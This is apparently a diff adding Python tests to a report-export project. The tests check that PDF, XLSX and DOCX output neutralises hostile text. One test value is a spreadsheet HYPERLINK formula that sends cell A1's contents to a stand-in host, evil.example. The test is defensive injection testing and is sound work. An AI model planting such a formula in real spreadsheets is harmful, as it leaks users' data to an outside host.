@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import dataclasses
 import io
+import zipfile
 from datetime import date
 
 import docx
@@ -116,3 +117,48 @@ def test_plan_xlsx_has_numbers_as_numbers(plan_report):
     text = wb["Tekst"]
     assert any("• " in (row[3].value or "") for row in text.iter_rows(min_row=2))
     assert wb["Om planen"]["A1"].value == "Syntetiske data – ikke rigtige tal"
+
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
+
+
+def _hostile_report():
+    """A plan whose texts hold a formula, control characters XML forbids and Typst line breaks."""
+    from jobmaal.reports.demo import demo_plan_report
+
+    local = LocalIndicatorRow(1, EVIL, "Definition\x01 med\x0bstyretegn", "antal", "up", 3.0, "2023",
+                              5.0, "2023", [LocalValue("2023", 4.0, "@kommentar\x1f")],
+                              "not_assessable", "Kan ikke vurderes")
+    goal = GoalSection(1, "Mål\x0c1", "Indledning\u2028= Overskrift\u2029- punkt\x85+ plus\x0b/ skråstreg",
+                       "+Indsats\x01 med styretegn", [], [local])
+    return dataclasses.replace(demo_plan_report(101), goals=[goal], synthetic=False)
+
+
+def test_plan_pdf_escapes_every_typst_line_break():
+    """U+2028, U+2029, NEL, VT and FF start a line in Typst: what follows them stays text (a
+    heading "=", "+", "/"); "- " after a line break is the plan's own list item, as after "\n"."""
+    text = _flat(pdf_text(render_plan_pdf(_hostile_report())))
+    assert "Indledning = Overskrift • punkt + plus / skråstreg" in text
+
+
+def test_plan_xlsx_writes_formulas_as_text_and_drops_control_characters():
+    data = render_plan_xlsx(_hostile_report())
+    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
+        if name.startswith("xl/worksheets/"):
+            assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name).decode()
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    local = wb["Lokale indikatorer"]
+    name = local["B2"]
+    assert name.value == EVIL and name.data_type == "s" and name.quotePrefix
+    assert local["C2"].value == "Definition med\nstyretegn"
+    assert local["M2"].value == "@kommentar" and local["M2"].quotePrefix
+    assert wb["Tekst"]["D2"].value == "+Indsats med styretegn" and wb["Tekst"]["D2"].quotePrefix
+
+
+def test_plan_docx_with_control_characters_renders_without_them():
+    document = docx.Document(io.BytesIO(render_plan_docx(_hostile_report())))
+    texts = [p.text for p in document.paragraphs]
+    texts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
+    joined = "\n".join(texts)
+    assert "Indsats med styretegn" in joined and "Definition med" in joined
+    assert not any(ch in joined for ch in "\x01\x0b\x0c\x1f")
